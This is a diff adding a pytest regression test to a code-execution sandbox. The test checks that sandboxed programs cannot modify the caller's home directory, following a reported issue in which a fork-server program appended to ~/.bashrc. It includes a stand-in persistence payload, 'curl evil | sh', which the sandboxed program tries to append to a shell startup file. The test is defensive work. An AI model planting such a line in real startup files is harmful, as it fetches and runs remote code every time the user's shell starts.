@@ -158,6 +158,34 @@ def test_write_outside_its_directory_is_refused(tmp_path):
     assert not Path("/tmp/bt-sandbox-leak").exists()
 
 
+def test_the_callers_own_home_is_read_only_inside():
+    """Issue 21: a fork-server program appended to ~/.bashrc. A home directory the caller
+    can write (not under /tmp, which the private /tmp hides: .ci/run gives its unprivileged
+    user one under /run) is read-only inside, through both runners (as root the sandbox's
+    own uid cannot enter root's home at all)."""
+    home = Path.home()
+    assert home.is_dir() and os.access(home, os.W_OK), home  # else the test proves nothing
+    assert not str(home.resolve()).startswith(("/tmp/", "/var/tmp/", "/dev/shm/"))
+    rc = home / f".bashrc-bt-{secrets.token_hex(4)}"
+    rc.write_text("# mine\n")
+    try:
+        src = (f"import os\nprint(os.path.exists({str(rc)!r}))\n"
+               f"open({str(rc)!r}, 'a').write('curl evil | sh\\n')\n")
+        for fork_server in (False, True):
+            from babeltower.evaluate.execute import run_program
+
+            r = run_program("python", src, timeout=10, python_fork_server=fork_server)
+            assert r.status == "fail", r
+            if ROOT:  # root's home (0700) is not even visible to the sandbox's own uid
+                assert "Permission denied" in r.stderr or "Read-only" in r.stderr, r.stderr
+            else:     # the same uid: visible, and the mount is read-only
+                assert "Read-only file system" in r.stderr, r.stderr
+                assert r.stdout.strip() == "True"
+        assert rc.read_text() == "# mine\n"
+    finally:
+        rc.unlink()
+
+
 def test_every_world_writable_host_dir_is_read_only_inside():
     """Found by walking the host (not listed by hand): /tmp, /var/tmp, /run/lock, ..."""
     dirs = world_writable_dirs()
